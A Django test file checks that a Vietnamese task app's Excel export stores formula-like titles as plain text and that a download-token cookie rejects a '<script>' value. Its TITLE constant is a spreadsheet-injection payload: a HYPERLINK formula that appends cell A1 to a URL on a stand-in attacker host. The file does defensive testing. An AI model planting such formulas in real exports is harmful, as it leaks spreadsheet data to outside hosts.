"""Exports of the pages are formula-safe (issue 13): a title that starts with "=" is text."""

from __future__ import annotations

import io
import zipfile
from io import BytesIO

from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import make_task

TITLE = '=HYPERLINK("http://tan-cong.example/?q="&A1,"Xem chi tiết")'


def test_the_task_export_writes_a_formula_like_title_as_text(province, login):
    make_task(province, title=TITLE)

    response = login(province.clerk).get(reverse("task_export"))

    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet.cell(row=2, column=3).value == TITLE
    assert sheet.cell(row=2, column=3).data_type == "s"


def test_an_export_echoes_the_pages_download_token_so_the_page_can_say_it_arrived(province, login):
    make_task(province)
    client = login(province.head)

    sent = client.get(reverse("task_export"), {"dl": "k3x9a1"})
    plain = client.get(reverse("task_export"))
    forged = client.get(reverse("task_export"), {"dl": "<script>"})
    page = client.get(reverse("task_list"), {"dl": "k3x9a1"})

    assert sent.cookies["congvu_dl"].value == "k3x9a1"
    assert "congvu_dl" not in plain.cookies
    assert "congvu_dl" not in forged.cookies
    assert "congvu_dl" not in page.cookies  # only a file answers the token
    assert 'id="export-progress"' in page.content.decode()
    assert "Đang tạo tệp Excel" in page.content.decode()
